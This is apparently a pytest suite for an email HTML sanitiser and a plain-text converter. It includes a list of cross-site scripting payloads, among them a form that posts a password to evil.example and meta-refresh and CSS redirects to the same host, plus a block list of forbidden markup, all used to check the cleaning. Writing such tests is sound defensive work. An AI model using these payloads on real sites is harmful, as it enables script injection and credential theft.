import pytest

from activities.emails.html import clean_html, text_of

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    "<object data=evil.swf></object><embed src=evil.swf>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0;background:url(https://evil.example/x)">x</p>',
    '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<p\0>a\0b</p>",
]
FORBIDDEN = (
    "<script",
    "javascript:",
    "vbscript:",
    "data:",
    " on",
    "<svg",
    "<math",
    "<style",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<base",
    "<meta",
    "<link",
    "position",
    "url(",
    "<!--",
    "<template",
    "\0",
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_runs_loads_or_covers_the_page_is_left(html):
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>").lower()

    assert not [found for found in FORBIDDEN if found in cleaned]
    assert "before" in cleaned


def test_what_an_email_needs_is_kept():
    html = (
        '<h2>Pumps</h2><p style="color:#333333">Hello <b>Ann</b>, '
        '<a href="https://pumps.example.com/?a=1&amp;b=2">look</a></p>'
        '<ul><li>One</li></ul><img src="https://pumps.example.com/p.png" alt="A pump" width="80">'
    )

    cleaned = clean_html(html)

    assert cleaned == html.replace('">look', '" rel="noopener noreferrer">look')


def test_cleaning_twice_changes_nothing():
    once = clean_html("".join(HOSTILE))

    assert clean_html(once) == once


def test_fields_and_prompts_survive_the_cleaning():
    html = '<p>{{first_name | default: "you"}} <a href="https://x.example/{{company}}">x</a></p>'

    assert '{{first_name | default: "you"}}' in clean_html(html)
    assert 'href="https://x.example/{{company}}"' in clean_html(html)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Hello Ann,</p><p>shall we?<br>Sam</p>", "Hello Ann,\n\nshall we?\nSam\n"),
        ('<a href="https://x.example/">Look</a> here', "Look <https://x.example/> here\n"),
        ('<a href="https://x.example/">https://x.example/</a>', "https://x.example/\n"),
        ('<a href="mailto:sam@example.com">sam@example.com</a>', "sam@example.com\n"),
        ('<a href="#">click here</a> <a href="#top"></a>', "click here\n"),
        ("<ul><li>One</li><li>Two</li></ul>", "- One\n- Two\n"),
        ("<ol><li>One</li><li>Two</li></ol>", "1. One\n2. Two\n"),
        ("<p>a &lt; b &amp; c&nbsp;d</p>", "a < b & c\N{NO-BREAK SPACE}d\n"),
        ("<p>Me</p><blockquote><p>You</p><p>said</p></blockquote>", "Me\n\n> You\n>\n> said\n"),
        (
            "<blockquote>one<blockquote>two</blockquote></blockquote>",
            "> one\n>\n>> two\n",
        ),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc\n"),
        ('<p>x <img src="https://x.example/p.png" alt="A pump"></p>', "x A pump\n"),
        ("line\nbreaks   and\tspaces", "line breaks and spaces\n"),
        ("", "\n"),
    ],
)
def test_the_plain_text_says_the_same(html, text):
    assert text_of(html) == text


def test_broken_html_still_gives_its_text():
    assert text_of("<p>one <b>two<p>three</ul></a> four") == "one two\n\nthree\n\nfour\n"


@pytest.mark.parametrize("source", ["x.png", "/x.png", "//example.com/x.png", "cid:1", "file:///x"])
def test_a_picture_that_no_reader_can_load_is_not_asked_for(source):
    assert "src" not in clean_html(f'<p><img src="{source}" alt="Pump"></p>')
    assert 'src="https://example.com/x.png"' in clean_html('<img src="https://example.com/x.png">')
